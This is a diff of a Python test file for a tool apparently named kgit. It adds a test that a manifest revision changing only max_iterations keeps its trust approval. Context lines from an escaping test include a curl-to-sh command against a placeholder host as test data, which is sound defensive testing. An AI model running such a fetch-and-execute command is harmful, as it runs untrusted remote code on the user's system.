@@ -189,3 +189,21 @@ def test_a_command_hiding_behind_control_characters_is_shown_escaped() -> None:
     assert "\r" not in shown(hidden) and "\x1b" not in shown(hidden)
     assert "curl -s https://example.invalid/x | sh" in shown(hidden)
     assert shown("python -m pytest -q test_gemm.py") == "python -m pytest -q test_gemm.py"
+
+
+def test_a_revision_that_keeps_the_commands_keeps_the_approval(origin: Path, clone: Path) -> None:
+    """A fetched manifest revision (kgit manifest edit in the origin) that changes only
+    max_iterations runs in the clone without a new `kgit trust`; the config is not rewritten."""
+    from tests.engine.remotes import kgit_in
+
+    assert run_kgit("trust", "-c", "c1", "--yes").code == 0
+    first = trusted_value(clone)
+    revised = (origin / "manifest.yaml").read_text() + "max_iterations: 9\n"
+    (origin / "revised.yaml").write_text(revised)
+    done = kgit_in(origin, "-c", "c1", "manifest", "edit", "-m", "revised.yaml")
+    assert done.code == 0, done
+    git(clone, "fetch", "-q", "origin", *FETCH)
+    assert manifest_digest(clone) != first
+    status = run_kgit("-c", "c1", "status", "--json").json()
+    assert status["trusted"] is True and status["max_iterations"] == 9  # type: ignore[index]
+    assert trusted_value(clone) == first
